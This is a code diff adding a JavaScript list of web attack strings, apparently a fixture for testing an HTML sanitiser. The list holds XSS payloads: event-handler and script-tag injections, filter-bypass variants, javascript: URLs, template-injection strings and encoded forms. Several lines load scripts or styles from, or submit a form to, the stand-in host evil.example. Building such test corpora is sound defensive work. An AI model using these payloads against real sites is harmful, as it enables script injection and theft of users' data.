@@ -1,0 +1,50 @@
+/** Texts that some page has once read as HTML, a script, a style, a link, or a template. */
+
+/** What is run where any of it is. */
+const run = "globalThis.pwned=1";
+const tags = ["img", "svg", "video", "audio", "body", "iframe", "input", "details", "marquee", "object", "embed", "math"];
+const handlers = ["onerror", "onload", "ontoggle", "onfocus", "onmouseover", "onstart"];
+
+export const attacks = [
+  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} src=x ${handler}="${run}" open autofocus>`)),
+  `<script>${run}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<scr<script>ipt>${run}</scr</script>ipt>`,
+  `<script\x0c>${run}</script>`,
+  `"><script>${run}</script>`,
+  `'><script>${run}</script>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `</p></li></ol><script>${run}</script>`,
+  `<!--><script>${run}</script>-->`,
+  `<![CDATA[<script>${run}</script>]]>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x></svg>`,
+  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
+  `<a href="javascript:${run}">x</a>`,
+  `<a href="data:text/html,<script>${run}</script>">x</a>`,
+  `javascript:${run}`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
+  `<base href="//evil.example/">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<style>@import "//evil.example/x.css"; * { display: none }</style>`,
+  `<form action=//evil.example><button>Enter</button></form>`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  "{{constructor.constructor('globalThis.pwned=1')()}}",
+  "${globalThis.pwned=1}",
+  "<%= globalThis.pwned=1 %>",
+  "__proto__",
+  "constructor",
+  "[object Object]",
+  '{"type":"chat","data":{"roomId":"den"}}',
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `&#60;script&#62;${run}&#60;/script&#62;`,
+  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
+  `%3Cscript%3E${run}%3C/script%3E`,
+  "\u202egnp.exe",
+  "a\u0000b",
+  "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
+  "W".repeat(300),
+];
